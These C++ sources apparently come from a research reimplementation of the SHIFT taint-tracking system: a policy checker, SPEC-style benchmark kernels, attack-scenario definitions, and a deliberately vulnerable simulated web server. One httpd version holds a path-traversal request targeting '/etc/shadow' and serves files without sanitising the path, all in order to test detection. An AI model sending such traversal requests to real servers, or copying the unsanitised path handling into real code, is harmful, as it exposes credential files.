     * is `taint`. Returns an alert on violation.
     */
    std::optional<SecurityAlert>
    checkFileOpen(const std::string &path,
                  const std::vector<bool> &taint) const;

    /** H3: a SQL query string is about to execute. */
    std::optional<SecurityAlert>
    checkSql(const std::string &query,
             const std::vector<bool> &taint) const;

    /** H4: a shell command is about to run via system(). */
    std::optional<SecurityAlert>
    checkSystem(const std::string &command,
                const std::vector<bool> &taint) const;

    /** H5: HTML is being emitted to a client. */
    std::optional<SecurityAlert>
    checkHtml(const std::string &html,
              const std::vector<bool> &taint) const;

    /**
     * H5 against the live taint map: finds the `<script` candidates
     * first and queries taint only at match positions, so the caller
     * need not materialize a per-byte taint vector for the whole
     * (possibly large) response body. `addr` is where `html` lives in
     * simulated memory.
     */
    std::optional<SecurityAlert>
    checkHtml(const std::string &html, const TaintMap &taint,
              uint64_t addr) const;

    /**
     * L1-L3: map a NaT-consumption hardware fault to the policy it
     * enforces. Returns nullopt when the corresponding policy is
     * disabled (the raw fault then surfaces, matching hardware
     * behaviour without a handler).
     */
    std::optional<SecurityAlert> natFaultAlert(const Fault &fault) const;

  private:
    PolicyConfig cfg_;
};

} // namespace shift

#endif // SHIFT_CORE_POLICY_HH
