/**
 * @file
 * SPEC-INT2000-like kernels (paper figures 7-9, table 3).
 *
 * Eight MiniC programs, one per benchmark the paper measured, each
 * implementing that benchmark's dominant algorithm and reading its
 * input from a simulated disk file ("we mark all data read from disk
 * as tainted", paper section 6.2). Each returns a self-checksum so
 * every configuration (original / SHIFT byte / SHIFT word / baseline,
 * safe / unsafe input) can be verified to compute the same answer.
 *
 * Kernels that index tables with input-derived (tainted) values carry
 * application-specific relax rules for those functions — the paper's
 * bounds-checking analysis (section 3.3.2) made the same accesses
 * admissible on real SPEC code.
 */

#ifndef SHIFT_WORKLOADS_SPEC_HH
#define SHIFT_WORKLOADS_SPEC_HH

#include <cstdint>
#include <functional>
#include <set>
#include <string>
#include <vector>

#include "runtime/session.hh"

namespace shift::workloads
{

/** One benchmark kernel. */
struct SpecKernel
{
    std::string name;       ///< SPEC id ("164.gzip")
    std::string shortName;  ///< bare name ("gzip")
    std::string source;     ///< MiniC source
    std::set<std::string> relaxLoadFunctions;
    std::set<std::string> relaxStoreFunctions;
    /** Deterministic input generator; scale grows the input. */
    std::function<std::string(int scale)> makeInput;
    int defaultScale = 1;
};

/** All eight kernels in the paper's order. */
const std::vector<SpecKernel> &specKernels();

/** Find a kernel by short name; fatal when absent. */
const SpecKernel &specKernel(const std::string &shortName);

/** Configuration of one measured run. */
struct SpecRunConfig
{
    TrackingMode mode = TrackingMode::None;
    Granularity granularity = Granularity::Byte;
    bool taintInput = true;   ///< unsafe (tainted) vs safe input
    CpuFeatures features;     ///< architectural enhancements
    ExecEngine engine = ExecEngine::Predecoded;
    OptimizerOptions optimize; ///< post-instrumentation optimizer
    bool fastPath = false;    ///< taint-clean fast tier (FAST-PATH.md)
    dift::AsyncTaintOptions async; ///< decoupled tier (ASYNC-TAINT.md)
    bool jit = false;         ///< native tier (JIT.md)
    uint32_t jitThreshold = 0; ///< promotion threshold, 0 = default
    bool jitBackground = false; ///< compile on a worker thread
    bool jitLazy = false;       ///< per-superblock lazy compilation
    bool profile = false;     ///< tier-attribution profiler (prof.*)
    int scale = 0;            ///< 0 = kernel default
};

/** Outcome of one run. */
struct SpecRun
{
    RunResult result;
    InstrumentStats instrStats;
    OptStats optStats;        ///< optimizer counters (zero when off)
    uint64_t staticSize = 0;  ///< static instructions after passes
    /**
     * Host wall-clock seconds spent inside Machine::run() alone —
     * the interpreter-throughput denominator (compilation,
     * instrumentation and machine setup excluded).
     */
    double runSeconds = 0;
};

/** Compile, (maybe) instrument, run one kernel. */
SpecRun runSpecKernel(const SpecKernel &kernel,
                      const SpecRunConfig &config);

} // namespace shift::workloads

#endif // SHIFT_WORKLOADS_SPEC_HH
