/**
 * @file
 * The security-evaluation workloads (paper table 2).
 *
 * Eight programs, each modelling the vulnerability class and data flow
 * of one real-world CVE the paper attacked. Every scenario ships a
 * benign input (false-positive check) and an exploit input, plus the
 * policy set the paper used to detect it.
 *
 * The programs are MiniC models of the vulnerable code paths, not
 * ports of the original packages — what matters for DIFT detection is
 * the taint flow from input channel to sensitive sink, which each
 * model preserves faithfully (see DESIGN.md, substitution table).
 */

#ifndef SHIFT_WORKLOADS_ATTACKS_HH
#define SHIFT_WORKLOADS_ATTACKS_HH

#include <functional>
#include <string>
#include <vector>

#include "runtime/session.hh"

namespace shift::workloads
{

/** One row of the table-2 evaluation. */
struct AttackScenario
{
    std::string name;          ///< short id ("gnu-tar")
    std::string cve;           ///< CVE number from the paper
    std::string program;       ///< program + version from the paper
    std::string language;      ///< original implementation language
    std::string attackType;    ///< "Directory Traversal", ...
    std::string policies;      ///< detection policy set, human-readable
    std::string expectedPolicy;///< alert policy the exploit must raise
    std::string source;        ///< MiniC source
    PolicyConfig policy;       ///< machine policy configuration
    /** Application-specific relax rules (paper section 3.3.2). */
    std::set<std::string> relaxLoadFunctions;
    std::function<void(Session &)> setupBenign;
    std::function<void(Session &)> setupExploit;
};

/** Result of running one scenario once. */
struct AttackRun
{
    RunResult result;
    bool detected = false;       ///< exploit stopped by expected policy
    bool falsePositive = false;  ///< benign run raised any alert
};

/**
 * Run a scenario under SHIFT at the given granularity. With
 * `exploit` false this is the false-positive check. `optimize`
 * applies the post-instrumentation optimizer, `fastPath` the
 * taint-clean fast tier and `jit` the host-code tier (detection must
 * be unchanged under all three; the differential suites lean on
 * this). `jitThreshold` tunes promotion, 0 = default.
 */
AttackRun runAttackScenario(const AttackScenario &scenario, bool exploit,
                            Granularity granularity,
                            ExecEngine engine = ExecEngine::Predecoded,
                            OptimizerOptions optimize = {},
                            bool fastPath = false,
                            dift::AsyncTaintOptions async = {},
                            bool jit = false,
                            uint32_t jitThreshold = 0);

/** All eight scenarios, in the paper's table order. */
const std::vector<AttackScenario> &attackScenarios();

/** Find a scenario by name; fatal when absent. */
const AttackScenario &attackScenario(const std::string &name);

} // namespace shift::workloads

#endif // SHIFT_WORKLOADS_ATTACKS_HH
