#include "httpd.hh"

#include <chrono>

#include "support/logging.hh"

namespace shift::workloads
{

const char *const kHttpdSource = R"MC(
char req[2048];
char rawpath[512];
char path[512];
char header[512];
char mime[64];
char chunk[8192];
char logbuf[65536];
int logpos;

// Percent-decode the request path (the per-character user-mode work a
// real server does on every request).
void url_decode(char *dst, char *src) {
    long i = 0;
    long o = 0;
    while (src[i]) {
        if (src[i] == '%' && src[i + 1] && src[i + 2]) {
            int hi = src[i + 1];
            int lo = src[i + 2];
            if (hi >= 'a') hi = hi - 'a' + 10;
            else if (hi >= 'A') hi = hi - 'A' + 10;
            else hi = hi - '0';
            if (lo >= 'a') lo = lo - 'a' + 10;
            else if (lo >= 'A') lo = lo - 'A' + 10;
            else lo = lo - '0';
            dst[o] = (char)(hi * 16 + lo);
            i += 3;
        } else {
            dst[o] = src[i];
            i++;
        }
        o++;
    }
    dst[o] = 0;
}

void mime_type(char *name) {
    char *dot = strchr(name, '.');
    strcpy(mime, "application/octet-stream");
    if (dot) {
        if (strcmp(dot, ".html") == 0) strcpy(mime, "text/html");
        else if (strcmp(dot, ".txt") == 0) strcpy(mime, "text/plain");
        else if (strcmp(dot, ".bin") == 0) return;
        else if (strcmp(dot, ".css") == 0) strcpy(mime, "text/css");
        else if (strcmp(dot, ".png") == 0) strcpy(mime, "image/png");
    }
}

void log_request(char *p, int size) {
    char line[256];
    int n = sprintf(line, "GET %s 200 %d\n", p, size);
    if (logpos + n >= 65000) logpos = 0;
    strcpy(logbuf + logpos, line);
    logpos += n;
}

int handle(int conn) {
    int n = recv(conn, req, 2047);
    if (n <= 0) return 0;
    req[n] = 0;
    if (strncmp(req, "GET ", 4) != 0) return 0;
    long i = 4;
    long o = 0;
    while (req[i] && req[i] != ' ' && o < 500) {
        rawpath[o] = req[i];
        i++; o++;
    }
    rawpath[o] = 0;
    url_decode(path, rawpath);
    mime_type(path);

    char full[512];
    strcpy(full, "/www");
    strcat(full, path);
    int fd = open(full, 0);
    if (fd < 0) {
        strcpy(header, "HTTP/1.0 404 Not Found\r\n\r\n");
        send(conn, header, strlen(header));
        return 0;
    }
    long size = file_size(full);
    sprintf(header,
            "HTTP/1.0 200 OK\r\nContent-Type: %s\r\n"
            "Content-Length: %d\r\nServer: shift-httpd/1.0\r\n\r\n",
            mime, (int)size);
    send(conn, header, strlen(header));
    long sent = 0;
    while (sent < size) {
        int m = read(fd, chunk, 8192);
        if (m <= 0) break;
        send(conn, chunk, m);
        sent += m;
    }
    close(fd);
    log_request(path, (int)size);
    return 1;
}

int main() {
    int served = 0;
    int conn = accept();
    while (conn >= 0) {
        served += handle(conn);
        close(conn);
        conn = accept();
    }
    return served & 127;
}
)MC";

HttpdRun
runHttpd(const HttpdConfig &config)
{
    SessionOptions options;
    options.mode = config.mode;
    options.features = config.features;
    options.engine = config.engine;
    options.policy.granularity = config.granularity;
    options.policy.taintNetwork = true;
    options.policy.taintFile = false; // served content is trusted
    options.policy.h2 = true;         // typical server policy set
    options.policy.h5 = true;
    options.policy.docRoot = "/www";
    options.maxSteps = 20'000'000'000ULL;

    Session session(kHttpdSource, options);

    // Server-realistic I/O cost model: syscall-and-copy dominated
    // (real Apache request handling is mostly kernel time).
    Os::Costs &costs = session.os().costs();
    costs.accept = 45000;
    costs.open = 40000;
    costs.close = 3000;
    costs.ioBase = 18000;
    costs.ioPerByteNum = 1;
    costs.ioPerByteDen = 2;

    // The served file.
    std::string body(config.fileSize, '\0');
    for (uint64_t i = 0; i < config.fileSize; ++i)
        body[i] = static_cast<char>('A' + (i * 31 + i / 97) % 26);
    session.os().addFile("/www/data.bin", body);

    for (int i = 0; i < config.requests; ++i) {
        session.os().queueConnection(
            "GET /data.bin HTTP/1.0\r\nHost: bench.example\r\n"
            "User-Agent: ab/2.3\r\nAccept: */*\r\n\r\n");
    }

    HttpdRun run;
    auto start = std::chrono::steady_clock::now();
    run.result = session.run();
    run.runSeconds = std::chrono::duration<double>(
                         std::chrono::steady_clock::now() - start)
                         .count();
    run.requestsServed = session.os().responses().size();
    run.totalCycles = run.result.cycles;
    run.latencyCycles = static_cast<double>(run.totalCycles) /
                        static_cast<double>(config.requests);
    run.throughput = 1e9 / run.latencyCycles;

    // Validate the payload made it through intact.
    run.responsesOk =
        run.result.exited &&
        session.os().responses().size() ==
            static_cast<size_t>(config.requests);
    if (run.responsesOk) {
        const std::string &first = session.os().responses().front();
        run.responsesOk = first.find("200 OK") != std::string::npos &&
                          first.size() > body.size() &&
                          first.substr(first.size() - body.size()) ==
                              body;
    }
    return run;
}

} // namespace shift::workloads
