#include "httpd.hh"

#include <chrono>

#include "support/logging.hh"

namespace shift::workloads
{

const char *const kHttpdSource = R"MC(
char req[2048];
char rawpath[512];
char path[512];
char header[512];
char mime[64];
char chunk[8192];
char logbuf[65536];
int logpos;

// Percent-decode the request path (the per-character user-mode work a
// real server does on every request).
void url_decode(char *dst, char *src) {
    long i = 0;
    long o = 0;
    while (src[i]) {
        if (src[i] == '%' && src[i + 1] && src[i + 2]) {
            int hi = src[i + 1];
            int lo = src[i + 2];
            if (hi >= 'a') hi = hi - 'a' + 10;
            else if (hi >= 'A') hi = hi - 'A' + 10;
            else hi = hi - '0';
            if (lo >= 'a') lo = lo - 'a' + 10;
            else if (lo >= 'A') lo = lo - 'A' + 10;
            else lo = lo - '0';
            dst[o] = (char)(hi * 16 + lo);
            i += 3;
        } else {
            dst[o] = src[i];
            i++;
        }
        o++;
    }
    dst[o] = 0;
}

void mime_type(char *name) {
    char *dot = strchr(name, '.');
    strcpy(mime, "application/octet-stream");
    if (dot) {
        if (strcmp(dot, ".html") == 0) strcpy(mime, "text/html");
        else if (strcmp(dot, ".txt") == 0) strcpy(mime, "text/plain");
        else if (strcmp(dot, ".bin") == 0) return;
        else if (strcmp(dot, ".css") == 0) strcpy(mime, "text/css");
        else if (strcmp(dot, ".png") == 0) strcpy(mime, "image/png");
    }
}

void log_request(char *p, int size) {
    char line[256];
    int n = sprintf(line, "GET %s 200 %d\n", p, size);
    if (logpos + n >= 65000) logpos = 0;
    strcpy(logbuf + logpos, line);
    logpos += n;
}

int handle(int conn) {
    int n = recv(conn, req, 2047);
    if (n <= 0) return 0;
    req[n] = 0;
    if (strncmp(req, "GET ", 4) != 0) return 0;
    long i = 4;
    long o = 0;
    while (req[i] && req[i] != ' ' && o < 500) {
        rawpath[o] = req[i];
        i++; o++;
    }
    rawpath[o] = 0;
    url_decode(path, rawpath);
    mime_type(path);

    char full[512];
    strcpy(full, "/www");
    strcat(full, path);
    int fd = open(full, 0);
    if (fd < 0) {
        strcpy(header, "HTTP/1.0 404 Not Found\r\n\r\n");
        send(conn, header, strlen(header));
        return 0;
    }
    long size = file_size(full);
    sprintf(header,
            "HTTP/1.0 200 OK\r\nContent-Type: %s\r\n"
            "Content-Length: %d\r\nServer: shift-httpd/1.0\r\n\r\n",
            mime, (int)size);
    send(conn, header, strlen(header));
    long sent = 0;
    while (sent < size) {
        int m = read(fd, chunk, 8192);
        if (m <= 0) break;
        send(conn, chunk, m);
        sent += m;
    }
    close(fd);
    log_request(path, (int)size);
    return 1;
}

int main() {
    int served = 0;
    int conn = accept();
    while (conn >= 0) {
        served += handle(conn);
        close(conn);
        conn = accept();
    }
    return served & 127;
}
)MC";

const char *const kHttpdRequest =
    "GET /data.bin HTTP/1.0\r\nHost: bench.example\r\n"
    "User-Agent: ab/2.3\r\nAccept: */*\r\n\r\n";

const char *const kHttpdAttackRequest =
    "GET /../../etc/shadow HTTP/1.0\r\n\r\n";

SessionOptions
httpdSessionOptions(TrackingMode mode, Granularity granularity,
                    CpuFeatures features, ExecEngine engine)
{
    SessionOptions options;
    options.mode = mode;
    options.features = features;
    options.engine = engine;
    options.policy.granularity = granularity;
    options.policy.taintNetwork = true;
    options.policy.taintFile = false; // served content is trusted
    options.policy.h2 = true;         // typical server policy set
    options.policy.h5 = true;
    options.policy.docRoot = "/www";
    options.maxSteps = 20'000'000'000ULL;
    return options;
}

std::string
httpdFileBody(uint64_t fileSize)
{
    std::string body(fileSize, '\0');
    for (uint64_t i = 0; i < fileSize; ++i)
        body[i] = static_cast<char>('A' + (i * 31 + i / 97) % 26);
    return body;
}

void
provisionHttpdOs(Os &os, uint64_t fileSize)
{
    // Server-realistic I/O cost model: syscall-and-copy dominated
    // (real Apache request handling is mostly kernel time).
    Os::Costs &costs = os.costs();
    costs.accept = 45000;
    costs.open = 40000;
    costs.close = 3000;
    costs.ioBase = 18000;
    costs.ioPerByteNum = 1;
    costs.ioPerByteDen = 2;

    os.addFile("/www/data.bin", httpdFileBody(fileSize));
    // The traversal target, so attack requests exercise H2 (a tainted
    // path escaping the doc root) rather than a plain 404.
    os.addFile("/etc/shadow", "root:secret");
}

HttpdRun
runHttpd(const HttpdConfig &config)
{
    SessionOptions options = httpdSessionOptions(
        config.mode, config.granularity, config.features, config.engine);
    options.optimize = config.optimize;
    options.fastPath = config.fastPath;
    options.async = config.async;
    options.jit = config.jit;
    options.jitThreshold = config.jitThreshold;
    options.jitBackground = config.jitBackground;
    options.jitLazy = config.jitLazy;
    options.policy.taintNetwork = config.taintRequests;

    Session session(kHttpdSource, options);
    provisionHttpdOs(session.os(), config.fileSize);
    std::string body = httpdFileBody(config.fileSize);

    for (int i = 0; i < config.requests; ++i)
        session.os().queueConnection(kHttpdRequest);

    HttpdRun run;
    auto start = std::chrono::steady_clock::now();
    run.result = session.run();
    run.runSeconds = std::chrono::duration<double>(
                         std::chrono::steady_clock::now() - start)
                         .count();
    run.requestsServed = session.os().responses().size();
    run.totalCycles = run.result.cycles;
    run.latencyCycles = static_cast<double>(run.totalCycles) /
                        static_cast<double>(config.requests);
    run.throughput = 1e9 / run.latencyCycles;

    // Validate the payload made it through intact.
    run.responsesOk =
        run.result.exited &&
        session.os().responses().size() ==
            static_cast<size_t>(config.requests);
    if (run.responsesOk) {
        const std::string &first = session.os().responses().front();
        run.responsesOk = first.find("200 OK") != std::string::npos &&
                          first.size() > body.size() &&
                          first.substr(first.size() - body.size()) ==
                              body;
    }
    return run;
}

std::unique_ptr<SessionTemplate>
makeHttpdTemplate(const HttpdFleetConfig &config)
{
    SessionOptions options = httpdSessionOptions(
        config.mode, config.granularity, config.features, config.engine);
    options.optimize = config.optimize;
    options.fastPath = config.fastPath;
    options.async = config.async;
    options.profile = config.profile;
    auto tmpl = std::make_unique<SessionTemplate>(
        std::string(kHttpdSource), std::move(options));
    provisionHttpdOs(tmpl->os(), config.fileSize);
    return tmpl;
}

std::vector<svc::FleetJob>
httpdFleetJobs(const HttpdFleetConfig &config)
{
    std::vector<svc::FleetJob> jobs;
    jobs.reserve(static_cast<size_t>(config.jobs));
    for (int j = 0; j < config.jobs; ++j) {
        svc::FleetJob job;
        job.id = j;
        for (int r = 0; r < config.requestsPerJob; ++r)
            job.requests.push_back(kHttpdRequest);
        // Attacks ride last so the clone serves its benign requests
        // before the policy kill terminates it.
        if (j >= config.jobs - config.attackJobs)
            job.requests.push_back(kHttpdAttackRequest);
        jobs.push_back(std::move(job));
    }
    return jobs;
}

HttpdFleetRun
runHttpdFleet(const HttpdFleetConfig &config)
{
    HttpdFleetRun run;

    auto buildStart = std::chrono::steady_clock::now();
    std::unique_ptr<SessionTemplate> tmpl = makeHttpdTemplate(config);
    tmpl->freeze();
    run.buildSeconds = std::chrono::duration<double>(
                           std::chrono::steady_clock::now() - buildStart)
                           .count();

    svc::FleetOptions fleetOptions;
    fleetOptions.workers = config.workers;
    fleetOptions.queueCapacity = config.queueCapacity;
    svc::Fleet fleet(*tmpl, fleetOptions);

    auto serveStart = std::chrono::steady_clock::now();
    run.report = fleet.serve(httpdFleetJobs(config));
    run.serveSeconds = std::chrono::duration<double>(
                           std::chrono::steady_clock::now() - serveStart)
                           .count();

    // Validate benign payloads end-to-end, exactly as runHttpd does.
    std::string body = httpdFileBody(config.fileSize);
    run.responsesOk = true;
    for (const svc::FleetJobResult &jr : run.report.jobResults) {
        bool attackJob = jr.id >= config.jobs - config.attackJobs;
        if (!attackJob && !jr.result.ok()) {
            run.responsesOk = false;
            break;
        }
        size_t expect = static_cast<size_t>(config.requestsPerJob);
        if (jr.responses.size() < expect) {
            run.responsesOk = false;
            break;
        }
        for (size_t i = 0; i < expect; ++i) {
            const std::string &resp = jr.responses[i];
            if (resp.find("200 OK") == std::string::npos ||
                resp.size() <= body.size() ||
                resp.substr(resp.size() - body.size()) != body) {
                run.responsesOk = false;
                break;
            }
        }
        if (!run.responsesOk)
            break;
    }
    return run;
}

} // namespace shift::workloads
