#include "spec.hh"

#include <chrono>

#include "support/logging.hh"

namespace shift::workloads
{

namespace
{

/** Deterministic host-side generator state (LCG). */
struct Rng
{
    uint64_t state;
    explicit Rng(uint64_t seed) : state(seed) {}
    uint64_t
    next()
    {
        state = state * 6364136223846793005ULL + 1442695040888963407ULL;
        return state >> 33;
    }
    int range(int n) { return static_cast<int>(next() % n); }
};

// ---------------------------------------------------------------------
// 164.gzip: LZ77 compression with hash chains + decompression +
// verification. Byte-oriented, hash-table indexed by input data.
// ---------------------------------------------------------------------

const char *kGzipKernel = R"MC(
char inbuf[32768];
char outbuf[65536];
char debuf[32768];
int head[4096];
int chain[32768];

int hash3(int a, int b, int c) {
    return ((a << 6) ^ (b << 3) ^ c) & 4095;
}

int compress(int n) {
    for (int i = 0; i < 4096; i++) head[i] = 0 - 1;
    int out = 0;
    int i = 0;
    while (i < n) {
        int best_len = 0;
        int best_dist = 0;
        if (i + 3 < n) {
            int h = hash3(inbuf[i], inbuf[i + 1], inbuf[i + 2]);
            int cand = head[h];
            int tries = 8;
            while (cand >= 0 && tries > 0) {
                int len = 0;
                while (len < 250 && i + len < n
                       && inbuf[cand + len] == inbuf[i + len]) {
                    len++;
                }
                if (len > best_len) {
                    best_len = len;
                    best_dist = i - cand;
                }
                cand = chain[cand];
                tries--;
            }
            chain[i] = head[h];
            head[h] = i;
        }
        if (best_len >= 4 && best_dist < 32768) {
            outbuf[out] = 1;                       // match marker
            outbuf[out + 1] = (char)(best_dist >> 8);
            outbuf[out + 2] = (char)(best_dist & 255);
            outbuf[out + 3] = (char)best_len;
            out += 4;
            i += best_len;
        } else {
            outbuf[out] = 2;                       // literal marker
            outbuf[out + 1] = inbuf[i];
            out += 2;
            i++;
        }
    }
    return out;
}

int decompress(int m) {
    int i = 0;
    int pos = 0;
    while (i < m) {
        if (outbuf[i] == 1) {
            int dist = ((int)outbuf[i + 1] << 8) | (int)outbuf[i + 2];
            int len = outbuf[i + 3];
            for (int k = 0; k < len; k++) {
                debuf[pos] = debuf[pos - dist];
                pos++;
            }
            i += 4;
        } else {
            debuf[pos] = outbuf[i + 1];
            pos++;
            i += 2;
        }
    }
    return pos;
}

int main() {
    int fd = open("input.dat", 0);
    if (fd < 0) return 255;
    int n = read(fd, inbuf, 32767);
    close(fd);
    int m = compress(n);
    int back = decompress(m);
    if (back != n) return 254;
    int sum = 0;
    for (int i = 0; i < n; i++) {
        if (inbuf[i] != debuf[i]) return 253;
        sum += inbuf[i];
    }
    // Fold in the compression ratio so the output depends on the work.
    return (sum + m) & 127;
}
)MC";

std::string
gzipInput(int scale)
{
    // Text with repetition so LZ77 finds matches.
    static const char *kWords[] = {
        "the", "quick", "brown", "fox", "jumps", "over", "lazy",
        "dogs", "pack", "my", "box", "with", "five", "dozen",
        "liquor", "jugs", "compress", "window", "entropy",
    };
    Rng rng(42);
    std::string out;
    int target = 3000 * scale;
    while (static_cast<int>(out.size()) < target) {
        out += kWords[rng.range(19)];
        out.push_back(' ');
        if (rng.range(12) == 0)
            out.push_back('\n');
    }
    return out;
}

// ---------------------------------------------------------------------
// 176.gcc: an expression-language front end — tokenizer, recursive-
// descent parser/evaluator, symbol table indexed by (tainted)
// identifier. Branch- and compare-heavy.
// ---------------------------------------------------------------------

const char *kGccKernel = R"MC(
char src[32768];
long vals[26];
int pos;

int peek_c() { return src[pos]; }
int next_c() { int c = src[pos]; pos++; return c; }
void skip_ws() { while (src[pos] == ' ' || src[pos] == '\n') pos++; }

long parse_expr();

long parse_factor() {
    skip_ws();
    int c = peek_c();
    if (c == '(') {
        next_c();
        long v = parse_expr();
        skip_ws();
        next_c();           // ')'
        return v;
    }
    if (c >= 'a' && c <= 'z') {
        next_c();
        return vals[c - 'a'];
    }
    long v = 0;
    while (peek_c() >= '0' && peek_c() <= '9') {
        v = v * 10 + (next_c() - '0');
    }
    return v;
}

long parse_term() {
    long v = parse_factor();
    skip_ws();
    while (peek_c() == '*' || peek_c() == '/') {
        int op = next_c();
        long w = parse_factor();
        if (op == '*') v = v * w;
        else if (w != 0) v = v / w;
        skip_ws();
    }
    return v;
}

long parse_expr() {
    long v = parse_term();
    skip_ws();
    while (peek_c() == '+' || peek_c() == '-') {
        int op = next_c();
        long w = parse_term();
        if (op == '+') v = v + w;
        else v = v - w;
        skip_ws();
    }
    return v;
}

int main() {
    int fd = open("input.dat", 0);
    if (fd < 0) return 255;
    int n = read(fd, src, 32767);
    src[n] = 0;
    close(fd);
    for (int i = 0; i < 26; i++) vals[i] = i + 1;
    pos = 0;
    long sum = 0;
    while (1) {
        skip_ws();
        int c = peek_c();
        if (c == 0) break;
        int dst = next_c() - 'a';       // "x=expr;"
        next_c();                        // '='
        long v = parse_expr();
        vals[dst] = v;
        sum = sum + (v & 1023);
        skip_ws();
        if (peek_c() == ';') next_c();
    }
    return (int)(sum & 127);
}
)MC";

std::string
gccInput(int scale)
{
    Rng rng(7);
    std::string out;
    const char *ops = "+-*";
    for (int s = 0; s < 260 * scale; ++s) {
        char dst = static_cast<char>('a' + rng.range(26));
        out.push_back(dst);
        out.push_back('=');
        int terms = 2 + rng.range(4);
        for (int t = 0; t < terms; ++t) {
            if (rng.range(3) == 0) {
                out.push_back('(');
                out.push_back(static_cast<char>('a' + rng.range(26)));
                out.push_back(ops[rng.range(3)]);
                out += std::to_string(1 + rng.range(9));
                out.push_back(')');
            } else if (rng.range(2) == 0) {
                out.push_back(static_cast<char>('a' + rng.range(26)));
            } else {
                out += std::to_string(rng.range(100));
            }
            if (t + 1 < terms)
                out.push_back(ops[rng.range(3)]);
        }
        out += ";\n";
    }
    return out;
}

// ---------------------------------------------------------------------
// 186.crafty: bitboard chess move generation — 64-bit shift/mask ALU
// work, population counts, ray scans. Very light on memory.
// ---------------------------------------------------------------------

const char *kCraftyKernel = R"MC(
char text[4096];

long popcount(long b) {
    long n = 0;
    while (b != 0) { b = b & (b - 1); n++; }
    return n;
}

long knight_attacks(int sq) {
    long b = (long)1 << sq;
    long notA  = 0 - 1 - 0x0101010101010101;
    long notAB = notA & (0 - 1 - 0x0202020202020202);
    long notH  = 0 - 1 - (0x0101010101010101 << 7);
    long notGH = notH & (0 - 1 - (0x0101010101010101 << 6));
    long att = 0;
    att = att | ((b << 17) & notA);
    att = att | ((b << 15) & notH);
    att = att | ((b << 10) & notAB);
    att = att | ((b << 6)  & notGH);
    att = att | ((b >> 17) & notH);
    att = att | ((b >> 15) & notA);
    att = att | ((b >> 10) & notGH);
    att = att | ((b >> 6)  & notAB);
    return att;
}

long rook_attacks(int sq, long occ) {
    long att = 0;
    int r = sq / 8;
    int f = sq % 8;
    for (int i = r + 1; i < 8; i++) {
        long m = (long)1 << (i * 8 + f);
        att = att | m;
        if (occ & m) break;
    }
    for (int i = r - 1; i >= 0; i--) {
        long m = (long)1 << (i * 8 + f);
        att = att | m;
        if (occ & m) break;
    }
    for (int i = f + 1; i < 8; i++) {
        long m = (long)1 << (r * 8 + i);
        att = att | m;
        if (occ & m) break;
    }
    for (int i = f - 1; i >= 0; i--) {
        long m = (long)1 << (r * 8 + i);
        att = att | m;
        if (occ & m) break;
    }
    return att;
}

int main() {
    int fd = open("input.dat", 0);
    if (fd < 0) return 255;
    int n = read(fd, text, 4095);
    text[n] = 0;
    close(fd);
    long seed = atoi(text);
    int rounds = atoi(strchr(text, ' ') + 1);
    long total = 0;
    for (int g = 0; g < rounds; g++) {
        seed = (seed * 1103515245 + 12345) & 0x7fffffffffff;
        long white = seed;
        seed = (seed * 1103515245 + 12345) & 0x7fffffffffff;
        long occ = white | seed;
        long mobility = 0;
        for (int sq = 0; sq < 64; sq++) {
            long bit = (long)1 << sq;
            if (white & bit) {
                mobility += popcount(knight_attacks(sq));
                if ((sq & 3) == 0)
                    mobility += popcount(rook_attacks(sq, occ));
            }
        }
        total += mobility;
    }
    return (int)(total & 127);
}
)MC";

std::string
craftyInput(int scale)
{
    return "987654321 " + std::to_string(60 * scale) + "\n";
}

// ---------------------------------------------------------------------
// 256.bzip2: blockwise Burrows-Wheeler transform + move-to-front +
// run-length coding, then full inverse + verification. The inverse
// BWT's counting sort indexes by (tainted) byte values.
// ---------------------------------------------------------------------

const char *kBzip2Kernel = R"MC(
char inbuf[16384];
char block[256];
char bwt[256];
char mtfbuf[256];
char rle[1024];
char deblock[256];
int rot[256];
int count[256];
int next_row[256];
char mtf_tab[256];

int block_n;

int rot_cmp(int a, int b) {
    for (int k = 0; k < block_n; k++) {
        int ca = block[(a + k) % block_n];
        int cb = block[(b + k) % block_n];
        if (ca != cb) return ca - cb;
    }
    return 0;
}

int do_bwt() {
    // Selection sort of rotation start indices.
    for (int i = 0; i < block_n; i++) rot[i] = i;
    for (int i = 0; i < block_n - 1; i++) {
        int best = i;
        for (int j = i + 1; j < block_n; j++) {
            if (rot_cmp(rot[j], rot[best]) < 0) best = j;
        }
        int t = rot[i]; rot[i] = rot[best]; rot[best] = t;
    }
    int primary = 0;
    for (int i = 0; i < block_n; i++) {
        bwt[i] = block[(rot[i] + block_n - 1) % block_n];
        if (rot[i] == 0) primary = i;
    }
    return primary;
}

void mtf_init() {
    for (int i = 0; i < 256; i++) mtf_tab[i] = (char)i;
}

int do_mtf() {
    mtf_init();
    for (int i = 0; i < block_n; i++) {
        int c = bwt[i];
        int j = 0;
        while ((int)mtf_tab[j] != c) j++;
        mtfbuf[i] = (char)j;
        while (j > 0) { mtf_tab[j] = mtf_tab[j - 1]; j--; }
        mtf_tab[0] = (char)c;
    }
    return block_n;
}

int do_unmtf() {
    mtf_init();
    for (int i = 0; i < block_n; i++) {
        int j = mtfbuf[i];
        int c = mtf_tab[j];
        bwt[i] = (char)c;
        while (j > 0) { mtf_tab[j] = mtf_tab[j - 1]; j--; }
        mtf_tab[0] = (char)c;
    }
    return block_n;
}

void do_ibwt(int primary) {
    for (int i = 0; i < 256; i++) count[i] = 0;
    for (int i = 0; i < block_n; i++) count[bwt[i]] += 1;
    int total = 0;
    for (int i = 0; i < 256; i++) {
        int c = count[i];
        count[i] = total;
        total += c;
    }
    for (int i = 0; i < block_n; i++) {
        int c = bwt[i];
        next_row[count[c]] = i;
        count[c] += 1;
    }
    int row = next_row[primary];
    for (int i = 0; i < block_n; i++) {
        deblock[i] = bwt[row];
        row = next_row[row];
    }
}

int main() {
    int fd = open("input.dat", 0);
    if (fd < 0) return 255;
    int n = read(fd, inbuf, 16383);
    close(fd);
    int sum = 0;
    int off = 0;
    while (off < n) {
        block_n = n - off;
        if (block_n > 200) block_n = 200;
        for (int i = 0; i < block_n; i++) block[i] = inbuf[off + i];
        int primary = do_bwt();
        do_mtf();
        // verify the round trip
        do_unmtf();
        do_ibwt(primary);
        for (int i = 0; i < block_n; i++) {
            if (deblock[i] != block[i]) return 254;
            sum += mtfbuf[i];
        }
        off += block_n;
    }
    return sum & 127;
}
)MC";

std::string
bzip2Input(int scale)
{
    Rng rng(1234);
    std::string out;
    static const char *kChunks[] = {
        "abracadabra", "mississippi", "bananabanana", "blockblock",
        "sortingsort", "wheeler",
    };
    int target = 390 * scale;
